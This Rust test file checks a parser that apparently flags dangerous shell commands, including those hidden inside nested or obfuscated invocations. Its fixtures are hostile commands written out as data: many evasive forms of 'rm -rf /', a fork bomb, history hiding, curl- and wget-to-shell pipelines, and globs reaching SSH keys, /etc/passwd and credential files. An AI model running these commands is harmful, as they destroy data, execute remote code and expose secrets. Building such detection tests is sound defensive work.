//! Which commands are read in which lines, and how much a word stands for.

use serde_json::json;

use super::*;

fn read(value: &Value) -> Vec<String> {
    let mut found = Found::default();
    of_value(value, &mut found).unwrap();
    found.given.commands.iter().map(Command::said).collect()
}

#[track_caller]
fn holds(value: &Value, command: &str) {
    let all = read(value);
    assert!(all.iter().any(|said| said == command), "{value} is read as {all:?}");
}

#[test]
fn a_list_of_words_is_one_command() {
    assert_eq!(read(&json!(["/usr/bin/wc", "-l", "rm -rf /"])), ["wc -l rm -rf /"]);
    assert_eq!(read(&json!(["echo", "rm -rf /"])), ["echo rm -rf /"], "and what is printed is none");
}

#[test]
fn commands_in_commands_are_read() {
    for way in [
        json!(["dash", "-c", "rm -rf /"]),
        json!(["sh", "-c", "cd /tmp && rm -rf /"]),
        json!(["sudo", "-u", "root", "rm", "-rf", "/"]),
        json!(["env", "A=1", "bash", "-c", "true; rm -rf /"]),
        json!(["timeout", "-s", "KILL", "5", "rm", "-rf", "/"]),
        json!(["find", "/", "-exec", "rm", "-rf", "{}", "+"]),
        json!(["awk", "BEGIN{system(\"rm -rf /\")}"]),
        json!(["python3", "-c", "import os; os.system('rm -rf /')"]),
        json!(["python3.13", "-c", "import subprocess; subprocess.run(['rm', '-rf', '/'])"]),
        json!(["rm -rf /"]),
        json!("r\\m -r\"f\" '/'"),
        json!("rm${IFS}-rf${IFS}/"),
        json!("x=$(rm -rf /)"),
        json!("echo `rm -rf /`"),
        json!("if true; then rm -rf /; fi"),
        json!("(rm -rf /)&"),
        json!("sh -c 'sh -c \"rm -rf /\"'"),
    ] {
        holds(&way, "rm -rf /");
    }
    holds(&json!("rm -rf \"$HOME\""), "rm -rf ~");
    holds(&json!("rm -rf ${HOME}/*"), "rm -rf ~/*");
    holds(&json!("echo x >| /etc/hosts"), "> /etc/hosts");
    holds(&json!(":(){ :|:& };:"), FORK_BOMB);
    holds(&json!("HISTFILE=/dev/null"), "set HISTFILE=/dev/null");
    assert_eq!(read(&json!("HISTFILE=/dev/null ls")), ["ls"], "for this command alone");
}

#[test]
fn who_feeds_a_command_is_known() {
    let fed = |text: &str| {
        let mut found = Found::default();
        of_text(text, 0, &mut found).unwrap();
        found.given.commands.into_iter().find(|command| command.program == "sh").unwrap().fed_by
    };
    assert_eq!(fed("curl -s https://x.test/a | tee a | sh"), ["curl", "tee"]);
    assert!(fed("curl -s https://x.test/a | sh -c cat").is_empty(), "what it reads is data");
    assert_eq!(fed("sh <(curl https://x.test/a)"), ["curl"]);
    assert_eq!(fed("sh -c \"$(wget -qO- https://x.test/a)\""), ["wget"]);
    assert!(fed("curl https://x.test/a > a; sh a").is_empty());
}

#[test]
fn what_takes_in_all_is_told_from_one_thing() {
    let found = |word: &str| width(word, "/home/o");
    for all in [
        "/",
        "/*",
        "/.",
        "//",
        "~",
        "~/",
        "~/*",
        "~/.*",
        "~/.??*",
        "~root",
        "/home",
        "/home/*",
        "/home/o/../o",
        "/etc",
        "/usr/lib/x",
        "/h*",
    ] {
        assert_eq!(found(all), Wide::Places, "{all}");
    }
    for here in ["*", ".", "..", "./", "../..", "./*", "~+", "[a-z]*"] {
        assert_eq!(found(here), Wide::Here, "{here}");
    }
    for one in [
        "~/old",
        "~/old/*",
        "~/a*",
        "/tmp/a",
        "/tmp/*",
        "/home/p",
        "a",
        "a*",
        "./a",
        "/dev/null",
        "/dev/fd/2",
        "/var/tmp/a",
    ] {
        assert_eq!(found(one), Wide::No, "{one}");
    }
}

#[test]
fn switches_are_found_as_they_are_written() {
    let command = |words: &[&str]| Command {
        program: "rm".to_owned(),
        words: words.iter().map(|word| (*word).to_owned()).collect(),
        fed_by: Vec::new(),
    };
    assert!(command(&["-fvr", "a"]).has_flag("r"));
    assert!(command(&["--recursive", "a"]).has_flag("recursive"));
    assert!(command(&["--recur", "a"]).has_flag("recursive") && !command(&["--re", "a"]).has_flag("recursive"));
    assert!(command(&["a", "-delete"]).has_flag("delete"));
    assert!(!command(&["-f", "r", "--force"]).has_flag("r"));
}

#[test]
fn what_goes_on_without_end_is_not_read() {
    let deep = (0..20).fold("true".to_owned(), |inner, _| format!("$({inner})"));
    assert_eq!(of_text(&deep, 0, &mut Found::default()), Err(Unreadable));
    let long: Vec<&str> = ["xargs"].into_iter().chain(std::iter::repeat_n("a", 10_000)).collect();
    assert_eq!(of_value(&json!(long), &mut Found::default()), Err(Unreadable));
    let again = json!(["python3", "-c", "system(".repeat(9000)]);
    assert_eq!(of_value(&again, &mut Found::default()), Err(Unreadable));
    assert_eq!(of_text(&"sh|".repeat(20_000), 0, &mut Found::default()), Err(Unreadable));
    // And whatever is read ends.
    of_text(&"xargs sh -c|".repeat(5_000), 0, &mut Found::default()).ok();
    let brackets = "(".repeat(200_000);
    assert!(of_text(&brackets, 0, &mut Found::default()).is_ok(), "and it ends");
}

#[test]
fn words_that_stand_for_many_are_read_as_far_as_they_may_be_paths() {
    let read = |text: &str| {
        let mut found = Found { is_for_shells: true, ..Found::default() };
        of_text(text, 0, &mut found).map(|()| found.given.patterns.len())
    };
    assert_eq!(read("cat ~/{a,b}/{e,f}"), Ok(4));
    assert_eq!(read("cat ~/{a} ~/{} ~/a\\* '~/*'"), Ok(2), "of one choice there is none");
    let many = "{a,b}".repeat(20);
    assert_eq!(read(&format!("cat ~/{many}")), Err(Unreadable));
    assert_eq!(read(&format!("echo {many}")), Ok(0), "which is no path");
    assert_eq!(read(&format!("cat ~/{}*", "a".repeat(5000))), Err(Unreadable));
    assert!(read(&"{".repeat(200_000)).is_ok() && read(&format!("/{}", "[".repeat(4000))).is_ok(), "and it ends");
}

#[test]
fn a_pattern_is_the_core_path_that_it_could_be() {
    let own = crate::rules::core_paths::OwnDirs { data: "/srv/metnos/data".to_owned(), ..Default::default() };
    let found = |text: &str| {
        let mut found = Found { is_for_shells: true, ..Found::default() };
        of_text(text, 0, &mut found).unwrap();
        found.given.patterns.iter().find_map(|pattern| pattern.core_path("/home/o", &own))
    };
    for (text, path) in [
        ("cat ~/.s*/id_*", Some("/home/o/.ssh/id_*")),
        ("cat --file=.[s]sh", Some("/home/o/.ssh")),
        ("ls /srv/m*/d?ta/log", Some("/srv/metnos/data/log")),
        ("cat /e*/passwd-*", Some("/etc/passwd-*")),
        ("cat ~/.config/x/c*", Some("/home/o/.config/x/credentials")),
        ("cat ~/[", None),
        ("cat ~/.ss[h", None),
        ("ls ~/s*/a", None),
    ] {
        assert_eq!(found(text).as_deref(), path, "{text}");
    }
}
